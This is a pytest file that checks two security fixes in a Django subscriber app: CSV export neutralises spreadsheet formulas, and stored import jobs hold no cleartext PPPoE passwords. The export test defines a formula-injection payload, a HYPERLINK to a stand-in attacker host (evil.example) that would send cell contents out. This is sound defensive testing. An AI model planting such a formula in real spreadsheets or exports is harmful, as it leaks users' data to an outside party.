"""Security issue 12 in subscribers: the export defuses spreadsheet formulas (finding 3),
and an import job keeps no PPPoE password in clear (finding 6)."""

import csv
import io

from django.db import connection
from django_tenants.utils import tenant_context

from subscribers.models import Customer, ImportJob
from subscribers.tasks import run_import
from tests.subscribers import csvdata
from tests.subscribers.test_import_page import catalogue, upload  # noqa: F401 (fixture)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_export_writes_formulas_in_names_tags_emails_and_id_numbers_as_text(alpha, make_customer):
    customer = make_customer(name=FORMULA, username="formula1")
    Customer.objects.filter(pk=customer.pk).update(
        email="=cmd@evil.example", id_number="+2547", tags=["@SUM(A1)", "-1+2"]
    )
    response = alpha.client(alpha.finance).get("/subscribers/export.csv")
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["name"] == "'" + FORMULA
    assert row["email"] == "'=cmd@evil.example"
    assert row["id_number"] == "'+2547"
    assert row["tags"] == "'@SUM(A1), -1+2"
    assert row["usernames"] == "formula1" and row["status"] == "active"


def _stored_content(pk: int) -> str:
    with connection.cursor() as cursor:
        cursor.execute("SELECT content FROM subscribers_importjob WHERE id = %s", [pk])
        return cursor.fetchone()[0]


def test_an_import_job_keeps_no_pppoe_password_in_clear(
    catalogue,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    alpha = catalogue
    text = csvdata.subscribers_csv(3)
    with django_capture_on_commit_callbacks(execute=False):
        assert upload(alpha.client(alpha.owner), text).status_code == 302
    with tenant_context(alpha.isp):
        job = ImportJob.objects.latest("id")
        # Waiting for a worker: the file is kept, encrypted.
        assert csvdata.password(1) not in _stored_content(job.pk)
        assert job.content == text
        run_import(job.id)
        job.refresh_from_db()
        assert job.state == ImportJob.State.DONE
        # Finished: the file is gone.
        assert _stored_content(job.pk) == "" and job.content == ""
